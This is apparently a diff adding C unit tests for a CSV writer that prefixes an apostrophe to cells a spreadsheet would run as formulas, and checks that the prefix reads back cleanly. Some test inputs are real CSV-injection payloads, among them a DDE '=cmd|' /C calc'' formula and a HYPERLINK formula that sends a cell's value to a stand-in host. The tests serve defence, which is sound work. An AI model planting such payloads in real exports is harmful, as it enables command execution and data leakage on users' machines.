@@ -1,4 +1,5 @@
-/* Unit tests for core/csv: RFC 4180 quoting and row ends, byte for byte. */
+/* Unit tests for core/csv: RFC 4180 quoting and row ends, byte for byte;
+ * cells a spreadsheet would run as formulas guarded, and read back. */
 #include "unit.h"
 
 #include "core/csv.h"
@@ -85,6 +86,84 @@ test_rows(void **state)
 	buf_free(&b);
 }
 
+/* OWASP's CSV-injection list: a cell starting with =, +, -, @, TAB or CR
+ * is written after an apostrophe, so a spreadsheet shows it as text. */
+static void
+test_formulas_guarded(void **state)
+{
+	(void)state;
+	field_is("=HYPERLINK(\"http://x\"&A1,\"y\")",
+	    "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"y\"\")\"");
+	field_is("=1+1", "'=1+1");
+	field_is("@SUM(1)", "'@SUM(1)");
+	field_is("+1", "'+1");
+	field_is("-1+1", "'-1+1");
+	field_is("-", "'-");
+	field_is("--5", "'--5");
+	field_is("-5-", "'-5-");
+	field_is("-1.", "'-1.");
+	field_is("-1e5", "'-1e5");
+	field_is("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
+	field_is("\tx", "'\tx");
+	field_is("\rx", "\"'\rx\"");		/* quoted for the CR, guarded inside */
+	field_is("=a,b", "\"'=a,b\"");
+	field_is("-x ", "\"'-x \"");
+	/* Apostrophes before such a character get one more, so reading back
+	 * takes off only the one added. */
+	field_is("'=x", "''=x");
+	field_is("''@x", "'''@x");
+}
+
+/* A number, negative included, is not a formula: Excel must read
+ * -4900000 (a grant's remaining money) as a number. */
+static void
+test_numbers_not_guarded(void **state)
+{
+	(void)state;
+	field_is("-4900000", "-4900000");
+	field_is("-12.5", "-12.5");
+	field_is("0", "0");
+	field_is("4900000", "4900000");
+	field_is("-0", "-0");
+	/* Text that only looks near a formula is left alone. */
+	field_is("'quoted", "'quoted");
+	field_is("a=b", "a=b");
+	field_is("'-5", "'-5");
+	field_is("メール@example", "メール@example");
+	assert_false(csv_guarded(""));
+	assert_false(csv_guarded("'"));
+	assert_false(csv_guarded("-4900000"));
+	assert_true(csv_guarded("-4900000x"));
+}
+
+/* csv_unguard undoes exactly what csv_field added. */
+static void
+test_unguard(void **state)
+{
+	static const char *const cells[] = {
+		"=HYPERLINK(\"http://x\"&A1,\"y\")", "@SUM(1)", "+1", "-1+1", "-4900000",
+		"\tx", "\rx", "'quoted", "'", "''", "'=x", "''=x", "'-5", "-", "plain", "",
+		"真柴", "'真柴", "@", "'@",
+	};
+	char guarded[128];
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof cells / sizeof cells[0]; i++) {
+		snprintf(guarded, sizeof guarded, "%s%s", csv_guarded(cells[i]) ? "'" : "",
+		    cells[i]);
+		if (strcmp(csv_unguard(guarded), cells[i]) != 0)
+			fail_msg("\"%s\" written as \"%s\" reads back as \"%s\"", cells[i],
+			    guarded, csv_unguard(guarded));
+	}
+	assert_string_equal(csv_unguard("'=1"), "=1");
+	assert_string_equal(csv_unguard("'\tx"), "\tx");
+	assert_string_equal(csv_unguard("'quoted"), "'quoted");
+	assert_string_equal(csv_unguard("'-4900000"), "'-4900000");
+	assert_string_equal(csv_unguard("''=x"), "'=x");
+	assert_string_equal(csv_unguard("=1"), "=1");
+}
+
 int
 main(void)
 {
@@ -93,6 +172,9 @@ main(void)
 		cmocka_unit_test(test_quoting),
 		cmocka_unit_test(test_empty_and_null),
 		cmocka_unit_test(test_rows),
+		cmocka_unit_test(test_formulas_guarded),
+		cmocka_unit_test(test_numbers_not_guarded),
+		cmocka_unit_test(test_unguard),
 	};
 
 	unit_init();
